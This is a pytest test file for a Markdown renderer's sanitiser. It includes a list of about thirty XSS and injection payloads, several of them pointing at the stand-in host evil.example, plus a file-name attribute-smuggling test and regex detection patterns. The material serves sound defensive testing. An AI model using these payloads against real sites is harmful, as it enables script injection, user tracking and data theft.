"""Bodies come from strangers: what of them reaches a page."""

import re
from urllib.parse import unquote

import pytest

from clearinghouse.core.body import check_body, render_body
from clearinghouse.core.source import read_source


def html_of(markdown: str) -> str:
    return render_body(markdown, lambda address: f"resolved:{address}" if "missing" not in address else None)


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "<iframe src='https://evil.example'></iframe>",
    "<form action=https://evil.example><input name=q></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<table><td style='background:url(https://evil.example)'>x</td></table>",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "<img src='https://evil.example/p.png'>",
    "<input name=__drawer id=__drawer type=checkbox checked>",
    "<a id=clearinghouse name=clearinghouse>x</a>",
    "<h2 id='sources' onclick=alert(1)>x</h2>",
    "{{ config.site_name }} {% include 'x' %} {: onclick=alert(1)}",
    "--8<-- 'mkdocs.yml'",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='//evil.example'>x</a>",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_calls_out_or_takes_a_place_survives(attack):
    html = html_of(attack)
    tags = re.findall(r"<[^>]*>", html)
    for tag in (each.replace("resolved:%5Cevil", "a path on this site") for each in tags):
        assert not re.match(r"</?(script|style|iframe|form|base|meta|link|svg|math|object|embed|input|div)\b", tag), tag
        assert not re.search(r"\bon\w+\s*=|javascript:|vbscript:|data:|evil|url\(|\bname=", tag, re.IGNORECASE), tag
        assert not re.search(r'\bid="(?!text-)', tag), tag


def test_markdown_with_tables_and_task_lists_is_rendered():
    html = html_of("| a | b |\n|---|:-:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n~~old~~ **bold**\n")
    assert '<td style="text-align:center">2</td>' in html.replace(": center", ":center")
    assert "☑ done" in html
    assert "☐ open" in html
    assert "<del>old</del> <strong>bold</strong>" in html


def test_headings_start_at_level_two_and_have_ids_of_their_own():
    html = html_of("# Results\n\n## Results\n\n### 结果 и итоги\n")
    assert html.startswith('<h2 id="text-results">Results</h2>')
    assert '<h3 id="text-results-2">' in html
    assert '<h4 id="text-结果-и-итоги">' in html


def test_the_name_of_a_file_never_becomes_html():
    body = "[a](x%22%20onclick=%22alert(1).md) ![p](y%22%3E%3Cscript%3E.png) [c](a&amp;b.md)"
    html = render_body(body, unquote)
    assert '<a href="x&quot; onclick=&quot;alert(1).md">' in html
    assert '<img src="y&quot;&gt;&lt;script&gt;.png" alt="p">' in html
    assert '<a href="a&amp;b.md">' in html


def test_relative_links_are_resolved_and_those_into_nothing_lose_their_address():
    assert '<a href="resolved:../bodies/norad.md">' in html_of("[x](../bodies/norad.md)")
    assert html_of("[x](missing.md)") == "<p><a>x</a></p>\n"
    assert '<img src="resolved:lab.png" alt="Laboratory">' in html_of("![Laboratory](lab.png)")
    assert html_of("![x](missing.png)").strip() == "<p></p>"
    assert '<a href="#text-results">' in html_of("[x](#results)")


def test_an_empty_body_is_nothing():
    assert html_of(" \n") == ""


def test_a_body_of_many_brackets_is_read_in_time():
    assert html_of("[" * 50_000)
    assert read_source(b"---\ntitle: x\n---\n" + b"[a](" * 50_000, "x.md").body


def test_a_long_text_is_not_a_deep_one():
    paragraphs = "A *word* with [a link](https://example.org/) and <b>\n\n" * 300
    deep = "".join(f"{'  ' * level}- item\n" for level in range(60))
    codes = {each.code for each in told(paragraphs)}
    assert codes == {"CH404"}
    for text in (deep, "1. " * 60 + "x", "> " * 60 + "x", "**a *b " * 60 + "c" + "* d**" * 60):
        assert "CH405" in {each.code for each in told(text)}
    assert "CH405" not in {each.code for each in told("> " * 49 + "x")}


def told(body):
    source = read_source(f"---\ntitle: A project\n---\n{body}".encode(), "content/projects/x.md")
    return list(check_body(source, set()))
